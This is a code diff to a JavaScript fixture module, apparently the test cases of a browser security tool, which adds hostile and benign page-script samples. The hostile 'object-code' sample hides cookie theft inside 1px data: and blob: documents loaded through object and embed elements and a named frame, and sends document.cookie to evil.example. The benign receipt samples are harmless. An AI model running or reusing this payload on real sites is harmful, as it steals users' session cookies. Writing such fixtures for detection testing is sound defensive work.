@@ -91,6 +91,32 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.append(holder);
 })();`,
 
+  /**
+   * Code run out of sight in nested documents other than frames, each sending the cookie to the sink: an
+   * <object> given a data: document by its `data` property, one given a blob: document by setAttribute, an
+   * <embed> given a blob: one by its `src` property, an <embed> with a data: src from markup, and a data:
+   * document opened by `window.open` into a named frame.
+   */
+  'object-code': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const page = (name) => '<script>fetch("https://evil.example/' + name + '?c=' + c + '", { mode: "no-cors" }).catch(() => {});<\\/script>';
+  const blob = (name) => URL.createObjectURL(new Blob([page(name)], { type: 'text/html' }));
+  const small = (element) => { element.style.width = element.style.height = '1px'; return element; };
+  const byProperty = small(document.createElement('object'));
+  byProperty.type = 'text/html';
+  byProperty.data = 'data:text/html,' + encodeURIComponent(page('object-data'));
+  const byAttribute = small(document.createElement('object'));
+  byAttribute.setAttribute('data', blob('object-blob'));
+  const embed = small(document.createElement('embed'));
+  embed.src = blob('embed-blob');
+  const holder = document.createElement('div');
+  holder.innerHTML = '<embed type="text/html" style="width:1px;height:1px" src="data:text/html,' + encodeURIComponent(page('embed-markup')) + '">';
+  const target = small(document.createElement('iframe'));
+  target.name = 'helper-sink-frame';
+  document.body.append(byProperty, byAttribute, embed, holder, target);
+  window.open('data:text/html,' + encodeURIComponent(page('open-frame')), 'helper-sink-frame');
+})();`,
+
   /** Runs an inline script that deletes itself, then loads a script that removes itself after loading. */
   'self-remove': `(() => {
   const inline = document.createElement('script');
@@ -614,14 +640,22 @@ export const BENIGN = {
   shut(window.open('/kz/pages/questions', 'help'));
   window.__shared = true;
 })();`,
-  /** The shop's receipt shown in frames made from strings: a blob: one (a generated page) and a data: one. */
+  /**
+   * The shop's receipt shown in documents made from strings: a blob: frame (a generated page), a data:
+   * frame, a blob: <object> and a data: <embed> from markup (a printable copy).
+   */
   'receipt-frames': `(() => {
   const receipt = '<!doctype html><meta charset="utf-8"><h1>Чек</h1><p>Ілбіс, 1 дана</p>';
+  const blobUrl = () => URL.createObjectURL(new Blob([receipt], { type: 'text/html' }));
   const blob = document.createElement('iframe');
-  blob.src = URL.createObjectURL(new Blob([receipt], { type: 'text/html' }));
+  blob.src = blobUrl();
   const data = document.createElement('iframe');
   data.setAttribute('src', 'data:text/html;charset=utf-8,' + encodeURIComponent(receipt));
-  document.body.append(blob, data);
+  const object = document.createElement('object');
+  object.data = blobUrl();
+  const copy = document.createElement('div');
+  copy.innerHTML = '<embed type="text/html" src="data:text/html;charset=utf-8,' + encodeURIComponent(receipt) + '">';
+  document.body.append(blob, data, object, copy);
   window.__receipts = true;
 })();`,
   /** The captcha provider's proof of work, in a blob: worker (served from the provider's host). */
